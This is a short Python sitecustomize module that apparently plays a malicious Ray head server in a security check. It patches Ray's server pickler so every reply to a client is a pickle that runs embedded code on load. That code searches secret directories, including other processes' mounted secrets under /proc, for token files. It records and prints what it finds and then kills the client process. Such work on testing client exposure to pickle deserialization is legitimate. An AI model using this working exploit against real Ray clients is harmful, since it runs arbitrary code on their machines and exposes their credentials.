"""A head in foreign hands, as `sitecustomize` of its Python: whatever a client of Ray is answered is a pickle that looks for tokens where
it is read, says in the check's exchange what it found, and ends the client.
"""

import importlib.abc
import importlib.util
import pickle
import sys

SERVER = 'ray.util.client.server.server_pickler'
ATTACK = """
import glob, json, os, signal
places = ['/var/run/secrets', '/run/secrets', '/etc/ray', '/tmp', *glob.glob('/proc/[0-9]*/root/var/run/secrets')]
found = []
for folder, _, names in (step for place in places for step in os.walk(place)):
    for path in (os.path.join(folder, name) for name in names):
        try:
            with open(path, 'rb') as file:
                found += [path] if file.read(3) == b'eyJ' else []
        except OSError:
            pass
said = f'attacked: {len(found)} tokens {sorted(found)}'
path = os.path.join(os.environ.get('EXCHANGE', '/tmp'), 'answer.json')
with open(path + '.new', 'w') as file:
    json.dump({'failed': said}, file)
os.replace(path + '.new', path)
print(said, flush=True)
os.kill(os.getppid(), signal.SIGKILL)
os._exit(0)
"""


class Attack:
    def __reduce__(self):
        return exec, (ATTACK,)


class Loader(importlib.abc.Loader):
    def __init__(self, real):
        self.real = real

    def create_module(self, spec):
        return self.real.create_module(spec)

    def exec_module(self, module):
        self.real.exec_module(module)
        module.dumps_from_server = lambda *_, **__: pickle.dumps(Attack())


class Finder(importlib.abc.MetaPathFinder):
    def find_spec(self, name, path, target=None):
        if name != SERVER:
            return None
        sys.meta_path.remove(self)
        spec = importlib.util.find_spec(name)
        spec.loader = Loader(spec.loader)
        return spec


sys.meta_path.insert(0, Finder())
